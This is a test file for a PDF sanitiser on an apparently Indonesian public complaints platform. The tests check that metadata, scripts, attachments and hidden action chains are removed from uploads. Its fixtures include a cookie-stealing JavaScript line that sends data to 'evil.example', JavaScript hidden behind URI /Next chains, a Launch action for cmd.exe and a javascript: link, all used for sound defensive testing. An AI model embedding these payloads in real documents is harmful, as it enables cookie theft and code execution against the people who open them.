import { FieldDomainException } from '@walikota/api-platform';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFObject,
  PDFRef,
  PDFStream,
  PDFString,
  StandardFonts,
  decodePDFRawStream,
  PDFRawStream,
} from 'pdf-lib';
import { sanitisePdf } from './pdf-processing';
import { pdf } from './testing/upload-fixtures';

const NAME = 'Budi Santoso';

/** A PDF the way office software leaves it: who wrote it, with what, plus a script and a file. */
async function revealingPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.setAuthor(NAME);
  doc.setTitle(`Keluhan ${NAME}`);
  doc.setCreator('Microsoft Word for Microsoft 365');
  doc.setProducer('Microsoft Word for Microsoft 365');
  doc.setKeywords(['pribadi']);
  const font = await doc.embedFont(StandardFonts.Helvetica);
  for (const text of ['Jalan berlubang di depan sekolah', 'Lampiran foto']) {
    doc.addPage([300, 300]).drawText(text, { x: 20, y: 250, font, size: 10 });
  }
  const xmp = doc.context.stream(`<x:xmpmeta><dc:creator>${NAME}</dc:creator></x:xmpmeta>`, { Type: 'Metadata', Subtype: 'XML' });
  doc.catalog.set(PDFName.of('Metadata'), doc.context.register(xmp));
  doc.getPage(0).node.set(PDFName.of('Metadata'), doc.context.register(doc.context.stream(`<dc:creator>${NAME}</dc:creator>`)));
  doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
  await doc.attach(Buffer.from(`KTP ${NAME}`), 'ktp.txt', { mimeType: 'text/plain' });
  // A link on the page that runs a script when clicked.
  const link = doc.context.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [0, 0, 50, 50],
    A: { S: 'JavaScript', JS: PDFString.of('this.submitForm("https://example.com")') },
  });
  doc.getPage(1).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(link)]));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

/** Every name and text string in every object of the document, streams decoded. */
function everything(doc: PDFDocument): { names: Set<string>; texts: string[] } {
  const names = new Set<string>();
  const texts: string[] = [];
  const seen = new Set<PDFObject>();
  const visit = (object: PDFObject | undefined): void => {
    if (!object || seen.has(object)) return;
    seen.add(object);
    if (object instanceof PDFRef) return visit(doc.context.lookup(object));
    if (object instanceof PDFName) names.add(object.asString());
    else if (object instanceof PDFString || object instanceof PDFHexString) texts.push(object.decodeText());
    else if (object instanceof PDFArray) object.asArray().forEach(visit);
    else if (object instanceof PDFDict) {
      for (const [key, value] of object.entries()) {
        names.add(key.asString());
        visit(value);
      }
    } else if (object instanceof PDFStream) {
      visit(object.dict);
      if (object instanceof PDFRawStream) texts.push(Buffer.from(decodePDFRawStream(object).decode()).toString('latin1'));
    }
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object);
  visit(doc.context.trailerInfo.Info);
  return { names, texts };
}

/** A script no output may carry, as the text of a JavaScript action. */
const SCRIPT = 'app.launchURL("https://evil.example/steal?c=" + this.cookie)';

/**
 * A PDF whose links hide actions behind harmless-looking ones: on page 1 a URI link whose /Next
 * is a JavaScript action (direct), one whose /Next is a reference to one, one whose /Next is an
 * array of actions, a chain three deep (URI → GoTo → URI → JavaScript), a Launch link, a form
 * widget with a script and a file attachment; page 2 runs a script when opened (/AA). Plus
 * the links that must survive: a plain https link and a jump to page 2.
 */
async function hostilePdf(): Promise<{ input: Buffer; pages: number }> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const [first, second] = [doc.addPage([300, 300]), doc.addPage([300, 300])];
  first.drawText('Lampiran laporan', { x: 20, y: 250, font, size: 10 });
  second.drawText('Halaman dua', { x: 20, y: 250, font, size: 10 });
  const { context } = doc;
  const js = () => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(SCRIPT) });
  const uri = (address: string, next?: PDFObject) =>
    context.obj({ S: 'URI', URI: PDFString.of(address), ...(next ? { Next: next } : {}) }) as PDFDict;
  const link = (y: number, action: PDFObject) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, y, 50, y + 10], A: action }));
  // The script as a stream, as producers write long ones.
  const scriptStream = context.register(context.stream(SCRIPT));
  const chain = uri('https://a.example', context.obj({ S: 'GoTo', D: [second.ref, 'Fit'], Next: uri('https://b.example', js()) }));
  const annotations = [
    link(0, uri('https://direct.example', js())),
    link(20, uri('https://indirect.example', context.register(context.obj({ S: 'JavaScript', JS: scriptStream })))),
    link(40, uri('https://array.example', context.obj([uri('https://ok.example'), js(), context.register(js())]))),
    link(60, chain),
    link(80, context.obj({ S: 'Launch', F: PDFString.of('cmd.exe'), Win: { F: PDFString.of('cmd.exe') } })),
    link(100, uri('javascript:alert(1)')),
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Widget', FT: 'Tx', T: PDFString.of('nama'), Rect: [0, 120, 50, 130], AA: { K: js() } }),
    ),
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'FileAttachment',
        Rect: [0, 140, 50, 150],
        FS: { Type: 'Filespec', F: PDFString.of('ktp.txt'), EF: { F: context.register(context.stream(`KTP ${NAME}`)) } },
      }),
    ),
    // What must survive.
    link(200, uri('https://semarangkota.go.id/aspirasi')),
    link(220, context.obj({ S: 'GoTo', D: [second.ref, 'XYZ', 0, 300, 0] })),
  ];
  first.node.set(PDFName.of('Annots'), context.obj(annotations));
  second.node.set(PDFName.of('AA'), context.obj({ O: js(), C: context.register(js()) }));
  return { input: Buffer.from(await doc.save({ useObjectStreams: false })), pages: 2 };
}

async function refusal(input: Buffer): Promise<string | undefined> {
  try {
    await sanitisePdf(input);
    return undefined;
  } catch (error) {
    expect(error).toBeInstanceOf(FieldDomainException);
    return (error as FieldDomainException).details?.map((detail) => `${detail.field}:${detail.code}`).join();
  }
}

describe('sanitisePdf', () => {
  it('keeps the pages and drops author, software, XMP, scripts and embedded files', async () => {
    const input = await revealingPdf();
    const before = everything(await PDFDocument.load(input));
    expect(before.texts.join('\n')).toContain(NAME);
    for (const key of ['/Author', '/Producer', '/Metadata', '/JavaScript', '/EmbeddedFile']) expect(before.names.has(key)).toBe(true);

    // Loaded without pdf-lib's default of stamping its own name as producer.
    const output = await PDFDocument.load(await sanitisePdf(input), { updateMetadata: false });
    expect(output.getPageCount()).toBe(2);
    expect(output.getPage(0).getSize()).toEqual({ width: 300, height: 300 });
    expect([output.getAuthor(), output.getTitle(), output.getCreator(), output.getProducer(), output.getKeywords()]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    const after = everything(output);
    expect(after.texts.join('\n')).not.toContain(NAME);
    for (const key of ['/Author', '/Producer', '/Creator', '/Metadata', '/JavaScript', '/JS', '/EmbeddedFile', '/OpenAction'])
      expect(after.names.has(key)).toBe(false);
    // The page still shows its text (a Helvetica text-drawing content stream) and its link.
    expect(after.names.has('/Helvetica')).toBe(true);
    expect(after.texts.some((text) => /\bTj\b/.test(text))).toBe(true);
    expect(after.names.has('/Link')).toBe(true);
  });

  it('removes every action chain and active annotation, keeping plain links and jumps within the document', async () => {
    const { input } = await hostilePdf();
    const before = everything(await PDFDocument.load(input));
    for (const key of ['/JavaScript', '/JS', '/Launch', '/Next', '/AA', '/Widget', '/FileAttachment'])
      expect(before.names.has(key)).toBe(true);
    expect(before.texts.join('\n')).toContain(SCRIPT);

    // Parsed again (the output packs its objects in compressed object streams) and walked whole.
    const parsed = await PDFDocument.load(await sanitisePdf(input), { updateMetadata: false });
    const after = everything(parsed);
    for (const key of ['/JavaScript', '/JS', '/Launch', '/Next', '/AA', '/OpenAction', '/Widget', '/FileAttachment', '/EF'])
      expect([key, after.names.has(key)]).toEqual([key, false]);
    const texts = after.texts.join('\n');
    expect(texts).not.toContain('evil.example');
    expect(texts).not.toContain('cmd.exe');
    expect(texts).not.toContain(NAME);
    expect(texts).not.toContain('javascript:');

    // The links left: each URI link keeps its own http(s) address, the jump still lands on page 2.
    expect(parsed.getPageCount()).toBe(2);
    const actions = (parsed.getPage(0).node.lookup(PDFName.of('Annots'), PDFArray).asArray() as PDFRef[])
      .map((ref) => parsed.context.lookup(ref, PDFDict).lookupMaybe(PDFName.of('A'), PDFDict))
      .filter((action): action is PDFDict => action !== undefined);
    const uris = actions
      .filter((action) => String(action.get(PDFName.of('S'))) === '/URI')
      .map((action) => action.lookup(PDFName.of('URI'), PDFString).decodeText());
    expect(uris.sort()).toEqual([
      'https://a.example',
      'https://array.example',
      'https://direct.example',
      'https://indirect.example',
      'https://semarangkota.go.id/aspirasi',
    ]);
    const jumps = actions.filter((action) => String(action.get(PDFName.of('S'))) === '/GoTo');
    expect(jumps).toHaveLength(1);
    expect(jumps[0].lookup(PDFName.of('D'), PDFArray).get(0)).toBe(parsed.getPage(1).ref);
  });

  it('leaves no earlier revision behind', async () => {
    // An incremental save: revision 2 replaces the information dictionary, revision 1 stays.
    const first = pdf()
      .toString('latin1')
      .replace('trailer<</Root 1 0 R>>', `4 0 obj<</Author(${NAME})>>endobj\ntrailer<</Root 1 0 R/Info 4 0 R>>`);
    const update = `4 0 obj<</Author(Anonim)>>endobj\ntrailer<</Root 1 0 R/Info 4 0 R>>\n%%EOF\n`;
    const input = Buffer.from(first + update, 'latin1');
    expect(input.toString('latin1')).toContain(NAME);
    const output = await sanitisePdf(input);
    // Not copied along as bytes, and not in any object of the new document either.
    expect(output.toString('latin1')).not.toContain(NAME);
    const texts = everything(await PDFDocument.load(output, { updateMetadata: false })).texts.join('\n');
    expect(texts).not.toContain(NAME);
    expect(texts).not.toContain('Anonim');
  });

  it('refuses a password-protected PDF and one without readable pages', async () => {
    const encrypted = pdf()
      .toString('latin1')
      .replace('trailer<</Root 1 0 R>>', '4 0 obj<</Filter/Standard/V 2/R 3/O(x)/U(y)/P -4>>endobj\ntrailer<</Root 1 0 R/Encrypt 4 0 R>>');
    expect(await refusal(Buffer.from(encrypted, 'latin1'))).toBe('file:pdf_encrypted');
    expect(await refusal(Buffer.from('%PDF-1.4\n' + ' '.repeat(100)))).toBe('file:pdf_unreadable');
    expect(await refusal(Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'))).toBe(
      'file:pdf_unreadable',
    );
  });
});
